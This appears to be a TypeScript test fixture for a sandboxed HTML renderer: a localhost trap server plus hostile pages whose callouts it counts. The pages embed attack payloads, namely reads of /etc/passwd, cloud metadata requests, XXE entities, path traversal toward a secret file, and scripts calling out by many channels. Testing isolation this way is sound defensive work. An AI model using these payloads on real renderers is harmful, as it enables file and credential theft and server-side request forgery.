/** Pages that try to read what is not theirs and to call out, and a server that counts who came. */
import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

export interface Trap {
  readonly port: number;
  /** What was asked for, and packets without a connection. */
  readonly hits: readonly string[];
  close(): Promise<void>;
}

/** Listens on this computer, for requests, any other bytes, and STUN. */
export async function openTrap(): Promise<Trap> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.end('caught');
  });
  server.on('connection', (socket) => hits.push(`connection from ${socket.remotePort}`));
  server.on('upgrade', (_request, socket) => void socket.destroy());
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const packets = createSocket('udp4');
  packets.on('message', () => hits.push('packet'));
  await new Promise<void>((resolve) => packets.bind(port, '127.0.0.1', resolve));
  return {
    port,
    hits,
    close: async () => {
      packets.close();
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

export interface HostilePage {
  readonly name: string;
  /** By file name; the first is the page. */
  readonly files: Readonly<Record<string, string>>;
  readonly javascript?: boolean;
  /** Addresses that must be listed as refused. */
  readonly listed: readonly string[];
}

const html = (body: string, head = ''): string =>
  `<!doctype html><html><head><meta charset="utf-8"><title>Hostile</title>${head}</head><body><p>Innocent words.</p>${body}</body></html>`;

/** @param port of the trap */
export function hostilePages(port: number): HostilePage[] {
  const out = `http://127.0.0.1:${port}`;
  return [
    {
      name: 'elements of all kinds',
      files: {
        'page.html': html(
          [
            'file:///etc/passwd',
            `${out}/`,
            'http://169.254.169.254/latest/meta-data/',
            `http://localhost:${port}/`,
          ]
            .map(
              (at) =>
                `<img src="${at}img"><iframe src="${at}iframe"></iframe><object data="${at}object"></object><embed src="${at}embed">` +
                `<video src="${at}video" poster="${at}poster" autoplay></video><audio src="${at}audio" autoplay></audio>` +
                `<img srcset="${at}srcset 1x, ${at}srcset2 2x"><picture><source srcset="${at}source"><img src="x.png"></picture>` +
                `<input type="image" src="${at}input"><table background="${at}table"><tr><td>x</table><portal src="${at}portal"></portal>`,
            )
            .join(''),
        ),
      },
      listed: [`${out}/img`, `${out}/iframe`, 'http://169.254.169.254/latest/meta-data/img'],
    },
    {
      name: 'styles and fonts',
      files: {
        'page.html': html(
          '<p style="font-family:Evil">set</p><p class="a">x</p>',
          `<link rel="stylesheet" href="${out}/link.css"><link rel="stylesheet" href="file:///etc/passwd"><link rel="stylesheet" href="own.css">` +
            `<style>@import url("${out}/import.css");@import "file:///etc/hosts";@font-face{font-family:Evil;src:url(${out}/font.woff2)}` +
            `.a{background:url(${out}/bg.png);list-style:url(${out}/list.png);cursor:url(${out}/cur.png),auto;content:url(${out}/content.png)}` +
            `.a::before{content:url(${out}/before.png)}body{background-image:image-set(url(${out}/set.png) 1x);mask-image:url(${out}/mask.svg#m)}</style>`,
        ),
        'own.css': `@import url(${out}/nested.css); p{background:url(${out}/nested.png)}`,
      },
      listed: [
        `${out}/link.css`,
        `${out}/import.css`,
        `${out}/font.woff2`,
        `${out}/nested.css`,
        `${out}/bg.png`,
      ],
    },
    {
      name: 'hints and headers in the head',
      files: {
        'page.html': html(
          '',
          [
            'preload" as="image',
            'prefetch',
            'dns-prefetch',
            'preconnect',
            'modulepreload',
            'icon',
            'manifest',
            'prerender',
            'alternate stylesheet',
          ]
            .map((rel) => `<link rel="${rel}" href="${out}/${rel.slice(0, 6)}">`)
            .join('') +
            `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${out}/rules"]}]}</script>` +
            `<meta http-equiv="Link" content="<${out}/meta>; rel=preload; as=style">`,
        ),
      },
      listed: [`${out}/preloa`],
    },
    {
      name: 'a refresh that leads away',
      files: { 'page.html': html('', `<meta http-equiv="refresh" content="0;url=${out}/refresh">`) },
      listed: [],
    },
    {
      name: 'another base',
      files: { 'page.html': html('<img src="based.png"><a href="x">x</a>', `<base href="${out}/base/">`) },
      listed: [`${out}/base/based.png`],
    },
    {
      name: 'entities in XHTML',
      files: {
        'page.xhtml': `<?xml version="1.0"?><!DOCTYPE html [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY out SYSTEM "${out}/entity"><!ENTITY % dtd SYSTEM "${out}/dtd"> %dtd;]><html xmlns="http://www.w3.org/1999/xhtml"><head><title>Hostile</title></head><body><p>Innocent words.</p><p>&file;</p><p>&out;</p></body></html>`,
      },
      listed: [],
    },
    {
      name: 'drawings',
      files: {
        'page.html': html(
          `<img src="own.svg"><object data="own.svg" type="image/svg+xml"></object><iframe src="own.svg"></iframe>` +
            `<svg width="50" height="50"><image href="${out}/image"/><image xlink:href="file:///etc/passwd"/><use href="${out}/use.svg#x"/><feImage href="${out}/fe"/>` +
            `<foreignObject width="9" height="9"><img src="${out}/foreign"/></foreignObject><rect fill="url(${out}/paint.svg#p)" width="5" height="5"/></svg>`,
        ),
        'own.svg': `<?xml version="1.0"?><?xml-stylesheet href="${out}/svg.css"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90"><script href="${out}/svg.js"/><image xlink:href="${out}/inner"/><use xlink:href="${out}/inner.svg#u"/><text y="9">&x;</text><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${out}/innerframe"/></foreignObject></svg>`,
      },
      listed: [`${out}/image`, `${out}/foreign`],
    },
    {
      name: 'scripts',
      javascript: true,
      files: {
        'page.html': html(
          `<iframe srcdoc="<img src='${out}/srcdoc'><script>fetch('${out}/srcdocfetch')</script>"></iframe><form id="f" action="${out}/form" method="post"><input name="a" value="b"></form><p id="got"></p>`,
          `<script>
          const safely = (work) => { try { const got = work(); if (got && got.catch) got.catch(() => {}); } catch {} };
          const show = (text) => (document.getElementById('got').textContent += text);
          addEventListener('load', () => {
            safely(() => fetch('${out}/fetch').then((r) => r.text()).then(show));
            safely(() => fetch('file:///etc/passwd').then((r) => r.text()).then(show));
            safely(() => fetch('../secret.txt').then((r) => r.text()).then(show));
            safely(() => fetch('%2e%2e/secret.txt').then((r) => r.text()).then(show));
            safely(() => fetch('..%2fsecret.txt').then((r) => r.text()).then(show));
            safely(() => fetch('${out}/cors', { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true }));
            safely(() => { const x = new XMLHttpRequest(); x.open('GET', '${out}/xhr'); x.send(); });
            safely(() => new WebSocket('ws://127.0.0.1:${port}/socket'));
            safely(() => new EventSource('${out}/events'));
            safely(() => navigator.sendBeacon('${out}/beacon', 'x'));
            safely(() => { new Image().src = '${out}/newimage'; });
            safely(() => import('${out}/module.js'));
            safely(() => new Worker(URL.createObjectURL(new Blob(["fetch('${out}/worker');importScripts('${out}/imported.js')"]))));
            safely(() => new SharedWorker('${out}/shared.js'));
            safely(() => navigator.serviceWorker.register('sw.js'));
            safely(() => { const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }, { urls: 'turn:127.0.0.1:${port}', username: 'a', credential: 'b' }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)); });
            safely(() => new WebTransport('https://127.0.0.1:${port}/transport'));
            safely(() => window.open('${out}/open'));
            safely(() => document.getElementById('f').submit());
            safely(() => { location.href = '${out}/location'; });
            safely(() => window.print());
            safely(() => alert('stop'));
          });</script>`,
        ),
        'sw.js': `fetch('${out}/serviceworker')`,
      },
      listed: [`${out}/fetch`, `${out}/xhr`],
    },
  ];
}
